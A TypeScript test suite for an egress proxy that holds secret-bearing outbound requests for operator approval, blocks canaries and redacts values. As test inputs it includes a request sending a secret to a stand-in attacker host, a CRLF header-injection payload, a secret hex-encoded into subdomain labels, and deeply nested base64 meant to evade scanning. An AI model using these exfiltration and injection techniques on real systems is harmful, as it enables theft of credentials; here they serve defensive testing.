import { Buffer } from "node:buffer";
import assert from "node:assert/strict";
import type { Answer } from "../../core/proposal.ts";
import { APPROVED, FakeApprovals } from "../support/fake_approvals.ts";
import { Frame, getFields, Http2Client } from "../support/http2_client.ts";
import { encode } from "../support/raw_client.ts";
import { sampleSecret } from "../support/sample_token.ts";
import { ALLOWED, ATTACKER, get, post, Scene, type SceneOptions } from "./egress_scene.ts";

const SECRET = sampleSecret();
const OTHER = sampleSecret();
const CANARY = sampleSecret();

/** A scene whose routes hold what is found; the operator is the test. */
async function holding(
  options: SceneOptions = {},
): Promise<Scene & { readonly operator: FakeApprovals }> {
  const operator = new FakeApprovals();
  const scene = await Scene.start({
    secrets: [
      { name: "SHOP_KEY", value: SECRET },
      { name: "MAIL_KEY", value: OTHER },
      { name: "BOT_BOTTLE_CANARY", value: CANARY, canary: true },
    ],
    approvals: operator,
    routes: [{ host: ALLOWED }, { host: ATTACKER }],
    ...options,
  });
  return Object.assign(scene, { operator });
}

const send = (...values: string[]) => {
  const body = JSON.stringify({ values });
  return post("/v1/items", [`Content-Length: ${body.length}`], body);
};

Deno.test("a held request goes out when the operator approves it with a reason, byte for byte", async () => {
  await using scene = await holding();
  using client = await scene.tunnel();
  const answer = client.ask(send(SECRET), 20_000);
  const { draft, timeout, answer: reply } = await scene.operator.question();
  assert.equal(draft.tool, "egress-token-allow");
  assert.equal(timeout, 300_000);
  assert.deepEqual(draft.details, {
    host: ALLOWED,
    method: "POST",
    path: "/v1/items",
    detector: "known_secrets",
    rule: "SHOP_KEY",
    place: "body",
    context: '{"values":["[redacted]"]}',
  });
  scene.assertNothingSent();
  reply(APPROVED);
  assert.equal((await answer)?.status, 200);
  assert.equal(String(scene.allowed.onlyRequest.body), JSON.stringify({ values: [SECRET] }));
  const [event] = scene.egress.events;
  assert.equal(event?.verdict, "allow");
  assert.equal((event?.findings as unknown[]).length, 1);
});

const NO: readonly [string, Answer, RegExp][] = [
  ["rejects it", { status: "rejected", notes: "not ours" }, /the operator rejected it: not ours/],
  ["approves it without a reason", { status: "approved", notes: " " }, /gives no reason/],
  ["does not answer", { status: "expired", notes: "" }, /did not answer in time/],
  ["changes it", { status: "modified", notes: "x", finalFile: "y" }, /cannot take/],
  [
    "cannot be asked",
    { status: "refused", notes: "32 wait already" },
    /could not be held: 32 wait/,
  ],
];
for (const [what, no, reason] of NO) {
  Deno.test(`a held request is refused when the operator ${what}, and the next one is asked about again`, async () => {
    await using scene = await holding();
    using client = await scene.tunnel();
    for (let round = 1; round <= 2; round++) {
      const answer = client.ask(send(SECRET), 20_000);
      (await scene.operator.question(round)).answer(no);
      const refused = await answer;
      assert.equal(refused?.status, 403);
      scene.assertRefused(refused, "detected");
      const told = JSON.parse(refused!.body.toString()).error;
      assert.match(told.reason, reason);
      assert.ok(told.next.length > 0);
    }
    assert.equal((await client.ask(get("/")))?.status, 200);
  });
}

Deno.test("an approved value passes again in any form, to its host alone; a second value does not", async () => {
  await using scene = await holding();
  using client = await scene.tunnel();
  const first = client.ask(send(SECRET), 20_000);
  (await scene.operator.question(1)).answer(APPROVED);
  assert.equal((await first)?.status, 200);
  assert.equal((await client.ask(send(SECRET)))?.status, 200);
  assert.equal((await client.ask(get(`/?q=${Buffer.from(SECRET).toString("hex")}`)))?.status, 200);
  assert.equal(scene.operator.asked.length, 1);
  const both = client.ask(send(SECRET, OTHER), 20_000);
  const second = await scene.operator.question(2);
  assert.equal(second.draft.details.rule, "MAIL_KEY");
  second.answer({ status: "rejected", notes: "no" });
  assert.equal((await both)?.status, 403);
  using elsewhere = await scene.egress.tunnel(`${ATTACKER}:443`);
  const there = elsewhere.ask(get(`/?q=${SECRET}`, [], ATTACKER), 20_000);
  const third = await scene.operator.question(3);
  assert.equal(third.draft.details.host, ATTACKER);
  third.answer({ status: "rejected", notes: "no" });
  assert.equal((await there)?.status, 403);
  assert.equal(scene.attacker.bytes, 0);
});

Deno.test("two requests with the same value at once ask once", async () => {
  await using scene = await holding();
  using one = await scene.tunnel();
  using two = await scene.tunnel();
  const answers = [one.ask(send(SECRET), 20_000), two.ask(send(SECRET), 20_000)];
  (await scene.operator.question(1)).answer(APPROVED);
  assert.deepEqual((await Promise.all(answers)).map((answer) => answer?.status), [200, 200]);
  assert.equal(scene.operator.asked.length, 1);
});

for (const alpn of ["http/1.1", "h2"] as const) {
  Deno.test(`a held request is withdrawn when its client leaves, over ${alpn}`, async () => {
    await using scene = await holding();
    const raw = await scene.tunnel([alpn]);
    if (alpn === "h2") {
      const client = await Http2Client.start(raw);
      await client.request(1, getFields(ALLOWED, `/?q=${SECRET}`));
    } else await raw.send(get(`/?q=${SECRET}`));
    const question = await scene.operator.question();
    raw[Symbol.dispose]();
    await until(() => question.signal!.aborted);
    await until(() => scene.egress.events.length === 1);
    scene.assertNothingSent();
  });
}

Deno.test("a stream that is reset withdraws its question; other streams of its session go on", async () => {
  await using scene = await holding();
  using client = await Http2Client.start(await scene.tunnel(["h2"]));
  await client.request(1, getFields(ALLOWED, `/?q=${SECRET}`));
  const question = await scene.operator.question();
  await client.request(3, getFields(ALLOWED, "/"));
  assert.equal((await client.outcome(3)).status, 200);
  await client.send(Frame.resetStream, 0, 1, Buffer.from([0, 0, 0, 8]));
  await until(() => question.signal!.aborted);
});

Deno.test("a held request outlives the time without a byte that ends others", async () => {
  await using scene = await holding({ timeouts: { idle: 300 } });
  using client = await scene.tunnel();
  const answer = client.ask(send(SECRET), 20_000);
  const question = await scene.operator.question();
  using idle = await scene.egress.client();
  assert.ok(await idle.closes(20_000), "a connection that says nothing is not ended");
  assert.equal(question.signal?.aborted, false);
  question.answer(APPROVED);
  assert.equal((await answer)?.status, 200);
});

Deno.test("a request that was approved is refused when the rules have changed meanwhile", async () => {
  await using scene = await holding();
  using client = await scene.tunnel();
  const answer = client.ask(send(SECRET), 20_000);
  const question = await scene.operator.question();
  scene.egress.reload([{ host: ATTACKER }]);
  question.answer(APPROVED);
  scene.assertRefused(await answer, "host_not_allowed");
});

Deno.test("the canary is never held and never let through, whatever the route asks for", async () => {
  for (const onMatch of ["supervise", "block"]) {
    await using scene = await holding({
      routes: [{ host: ALLOWED, dlp: { outbound_on_match: onMatch } }],
    });
    using client = await scene.tunnel();
    for (const text of [CANARY, btoa(CANARY), [...CANARY].reverse().join("")]) {
      const answer = await client.ask(send(text));
      scene.assertRefused(answer, "detected");
      assert.match(JSON.parse(String(answer!.body)).error.reason, /canary/);
    }
    assert.equal(scene.operator.asked.length, 0);
  }
});

Deno.test("header injection is refused under every way to act on findings, and never held", async () => {
  for (const onMatch of ["supervise", "block", "redact"]) {
    await using scene = await holding({
      routes: [{ host: ALLOWED, dlp: { outbound_on_match: onMatch } }],
    });
    using client = await scene.tunnel();
    const answer = await client.ask(get("/?q=1%0d%0aSet-Cookie:%20a=b"));
    scene.assertRefused(answer, "detected");
    assert.equal((scene.egress.events[0]!.findings as { detector: string }[])[0]!.detector, "crlf");
    assert.equal((await client.ask(get("/?q=two%0d%0alines")))?.status, 200);
    assert.equal(scene.operator.asked.length, 0);
  }
});

Deno.test("a request that cannot be looked at as a whole is held, each one anew", async () => {
  await using scene = await holding();
  using client = await scene.tunnel();
  let nested = "harmless text that is long enough to be looked at";
  for (let layer = 0; layer < 7; layer++) nested = btoa(nested);
  for (let round = 1; round <= 2; round++) {
    const answer = client.ask(send(nested), 20_000);
    const question = await scene.operator.question(round);
    assert.equal(question.draft.details.rule, "incomplete");
    question.answer(APPROVED);
    assert.equal((await answer)?.status, 200);
  }
  scene.egress.reload([{ host: ALLOWED, dlp: { outbound_on_match: "block" } }]);
  assert.equal((await client.ask(send(nested)))?.headers.get("x-bot-bottle-denied"), "detected");
});

Deno.test("a redacting route sends the request without the value, and refuses what it cannot rewrite", async () => {
  await using scene = await holding({
    routes: [{ host: "*.example.com", dlp: { outbound_on_match: "redact" } }],
  });
  using client = await scene.tunnel();
  const body = JSON.stringify({
    messages: [{ role: "user", content: `my key is ${SECRET}, ok?` }],
  });
  const head = ["Content-Type: application/json", `Content-Length: ${body.length}`];
  for (let turn = 1; turn <= 2; turn++) {
    assert.equal((await client.ask(post(`/v1?turn=${turn}&q=${OTHER}`, head, body)))?.status, 200);
    const sent = scene.allowed.requests.at(-1)!;
    const text = `${sent.head}${sent.body}`;
    for (const value of [SECRET, OTHER]) assert.ok(!text.includes(value.slice(0, 12)));
    assert.match(
      JSON.parse(String(sent.body)).messages[0].content,
      /^my key is \[redacted.*\], ok\?$/,
    );
    assert.equal(sent.headers.get("content-length"), String(sent.body.length));
    assert.equal(scene.egress.events.at(-1)?.redacted, 2);
  }
  const before = scene.allowed.bytes;
  const hex = Buffer.from(SECRET).toString("hex").slice(0, 60);
  using labels = await scene.egress.tunnel(`${hex}.example.com:443`);
  const refused = await labels.ask(get("/", [], `${hex}.example.com`));
  assert.equal(refused?.headers.get("x-bot-bottle-denied"), "detected");
  assert.equal(scene.allowed.bytes, before);
  assert.equal(scene.operator.asked.length, 0);
  assert.ok(!JSON.stringify(scene.egress.events).includes(SECRET.slice(0, 12)));
});

Deno.test("a route by which hostile text came is looked at for ten minutes, also one without detectors", async () => {
  let now = 1_000_000;
  const clock = { now: () => new Date(), monotonic: () => now };
  await using scene = await holding({
    clock,
    routes: [{ host: ALLOWED, dlp: { outbound_detectors: false } }],
  });
  using client = await scene.tunnel();
  assert.equal((await client.ask(send(SECRET)))?.status, 200);
  scene.egress.proxy.screen.strict.tighten(ALLOWED);
  const held = client.ask(send(SECRET), 20_000);
  (await scene.operator.question()).answer({ status: "rejected", notes: "no" });
  assert.equal((await held)?.status, 403);
  now += 10 * 60_000 + 1;
  using later = await scene.tunnel();
  assert.equal((await later.ask(send(SECRET)))?.status, 200);
});

Deno.test("nothing that is written while requests are held tells a value", async () => {
  await using scene = await holding();
  using client = await scene.tunnel();
  const answer = client.ask(
    encode(get(`/v1/${SECRET}/x?q=${btoa(OTHER)}`, [`X-A: before ${OTHER} after ${SECRET}`])),
    20_000,
  );
  (await scene.operator.question(1)).answer(APPROVED);
  (await scene.operator.question(2)).answer({ status: "rejected", notes: "no" });
  const written = JSON.stringify([
    scene.operator.asked.map(({ draft }) => draft),
    scene.egress.events,
    String((await answer)?.body),
  ]);
  for (const value of [SECRET, OTHER]) {
    for (const text of [value, btoa(value), Buffer.from(value).toString("hex")]) {
      assert.ok(!written.includes(text.slice(0, 14)), written);
    }
  }
});

function turn(): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, 10));
}

/** Waits until `condition` holds; fails after ten seconds. */
async function until(condition: () => boolean): Promise<void> {
  for (let waited = 0; waited < 1_000; waited++) {
    if (condition()) return;
    await turn();
  }
  assert.fail("it did not come to that");
}
